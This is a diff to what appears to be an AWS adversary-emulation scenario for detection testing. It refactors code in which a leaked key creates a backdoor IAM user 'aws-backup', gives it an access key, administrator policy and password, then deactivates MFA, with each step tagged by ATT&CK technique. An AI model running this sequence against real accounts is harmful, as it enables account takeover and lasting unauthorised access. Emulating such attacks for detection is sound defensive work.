@@ -1,8 +1,6 @@
 import {
   AttachUserPolicyCommand,
-  CreateAccessKeyCommand,
   CreateLoginProfileCommand,
-  CreateUserCommand,
   DeactivateMFADeviceCommand,
   GetAccountAuthorizationDetailsCommand,
   ListRolesCommand,
@@ -24,10 +22,9 @@ import {
   iamUser,
   minutes,
   seconds,
-  type Actor,
-  type Play,
 } from 'trailproof'
 import { externalCa } from './support/certificate.ts'
+import { ownAdministrator } from './support/own-administrator.ts'
 import { trustsService } from './support/policies.ts'
 
 const abroad = { place: 'amsterdam', client: awsCli({ os: 'kali' }) }
@@ -49,27 +46,6 @@ const looks = [
   { technique: 'T1580', look: () => new DescribeInstancesCommand({ MaxResults: 50 }) },
   { technique: 'T1087.004', look: () => new ListUsersCommand({ PathPrefix: '/people/' }) },
 ] as const
-
-/** A user of the attacker's own, with a key, the administrator policy and a password. */
-async function ownAdministrator(play: Play): Promise<Actor> {
-  const as = play.as(leaked)
-  await as.send(new CreateUserCommand({ UserName: 'aws-backup' }), { technique: 'T1136.003' })
-  const { AccessKey } = await as.send(new CreateAccessKeyCommand({ UserName: 'aws-backup' }), {
-    technique: 'T1098.001',
-  })
-  await as.send(
-    new AttachUserPolicyCommand({
-      UserName: 'aws-backup',
-      PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
-    }),
-    { technique: 'T1098.003' },
-  )
-  await as.send(
-    new CreateLoginProfileCommand({ UserName: 'aws-backup', Password: 'correct horse battery 1!' }),
-    { technique: 'T1098.001' },
-  )
-  return play.actor('backdoor', AccessKey, abroad)
-}
 
 export default defineScenario({
   title: 'Campaign: a leaked key becomes an administrator and a way back in',
@@ -115,7 +91,15 @@ export default defineScenario({
         return play.as(leaked).send(look(), { technique })
       })
       await play.wait(minutes(4))
-      const backdoor = await ownAdministrator(play)
+      const key = await ownAdministrator(play, leaked, 'aws-backup')
+      await play.as(leaked).send(
+        new CreateLoginProfileCommand({
+          UserName: 'aws-backup',
+          Password: 'correct horse battery 1!',
+        }),
+        { technique: 'T1098.001' },
+      )
+      const backdoor = play.actor('backdoor', key, abroad)
       await play.wait(minutes(11))
       await play.as(backdoor).send(
         new DeactivateMFADeviceCommand({
